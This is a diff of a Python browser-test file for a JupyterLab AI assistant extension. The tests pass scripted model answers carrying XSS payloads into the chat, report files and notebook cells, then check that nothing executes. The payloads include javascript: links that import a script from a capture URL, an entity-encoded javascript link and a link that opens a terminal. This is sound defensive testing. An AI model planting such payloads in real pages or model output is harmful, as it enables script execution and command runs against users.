@@ -86,7 +86,7 @@ def payload(capture: str) -> str:
         f'<audio src="{capture}/audio.mp3" autoplay></audio>',
         f'<form action="{capture}/form"><button>go</button></form>',
         f"[click me](javascript:import('{capture}/click.js'))",
-        "<a href=\"&#106;avascript:alert(1)\">encoded</a>",
+        '<a href="&#106;avascript:alert(1)">encoded</a>',
         '<a data-commandlinker-command="terminal:create-new">a click runs a command</a>',
     ]
     return "\n\n".join([f"**{HARMLESS}**, to 15.0.", "| month | revenue |\n|---|---|\n| 3 | 15.0 |", *attacks])
@@ -183,14 +183,22 @@ def test_a_chat_answer_with_xss_payloads_runs_nothing(page: Any, lab: Lab, llm: 
     screenshot(page, "xss-01-chat")
 
 
-def test_a_report_with_a_payload_in_its_conclusions_runs_nothing(page: Any, lab: Lab, llm: ScriptedLLM,
-                                                                 capture: Capture) -> None:  # fmt: skip
+def test_a_report_with_a_payload_in_its_conclusions_runs_nothing(
+    page: Any, lab: Lab, llm: ScriptedLLM, capture: Capture
+) -> None:
     show_chat(page)
     before = kernels(lab)
     capture.clear()
-    llm.reply(tool_call("generate_report", title="March revenue", summary_text=f"{HARMLESS}.",
-                        conclusions=payload(capture.url), formats=["md", "html"]),
-              text("The report is written."))  # fmt: skip
+    llm.reply(
+        tool_call(
+            "generate_report",
+            title="March revenue",
+            summary_text=f"{HARMLESS}.",
+            conclusions=payload(capture.url),
+            formats=["md", "html"],
+        ),
+        text("The report is written."),
+    )
     ask(page, "Write the report")
     page.wait_for_selector(".nini-assistant:has-text('The report is written')", timeout=60_000)
     wait_idle(page)
@@ -205,24 +213,40 @@ def test_a_report_with_a_payload_in_its_conclusions_runs_nothing(page: Any, lab:
     [report] = [r for r in lab.nini("GET", f"sessions/{session}/reports") if r["title"] == "March revenue"]
     html = lab_file(lab, session, report["files"]["html"])
     # the file itself, not only the frame (whose CSP would stop what it holds), parsed inert
-    found = page.evaluate(f"html => ({ACTIVE})(new DOMParser().parseFromString(html, 'text/html').querySelector('main'))", html)
+    found = page.evaluate(
+        f"html => ({ACTIVE})(new DOMParser().parseFromString(html, 'text/html').querySelector('main'))", html
+    )
     assert found == []
     screenshot(page, "xss-02-report")
 
 
 def lab_file(lab: Lab, session: str, path: str) -> str:
-    request = urllib.request.Request(f"{lab.url}/nini/api/sessions/{session}/artifacts/{path}",
-                                     headers={"Authorization": f"token {lab.token}"})  # fmt: skip
+    request = urllib.request.Request(
+        f"{lab.url}/nini/api/sessions/{session}/artifacts/{path}", headers={"Authorization": f"token {lab.token}"}
+    )
     with urllib.request.urlopen(request, timeout=30) as response:
         return response.read().decode("utf-8")
 
 
-def test_a_nini_cell_answer_with_xss_payloads_runs_nothing(page: Any, lab: Lab, llm: ScriptedLLM, capture: Capture) -> None:
-    lab.request("PUT", "/api/contents/xss.ipynb", {"type": "notebook", "content": {
-        "cells": [{"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None}
-                  for source in ("%load_ext nini", "%%nini\nWhat does the CSV header say?")],
-        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
-        "nbformat": 4, "nbformat_minor": 5}})  # fmt: skip
+def test_a_nini_cell_answer_with_xss_payloads_runs_nothing(
+    page: Any, lab: Lab, llm: ScriptedLLM, capture: Capture
+) -> None:
+    lab.request(
+        "PUT",
+        "/api/contents/xss.ipynb",
+        {
+            "type": "notebook",
+            "content": {
+                "cells": [
+                    {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None}
+                    for source in ("%load_ext nini", "%%nini\nWhat does the CSV header say?")
+                ],
+                "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
+                "nbformat": 4,
+                "nbformat_minor": 5,
+            },
+        },
+    )
     if not page.is_visible("#filebrowser"):
         page.click('.jp-SideBar.jp-mod-left [data-id="filebrowser"]')
     page.dblclick('.jp-DirListing-item[title*="xss.ipynb"]')
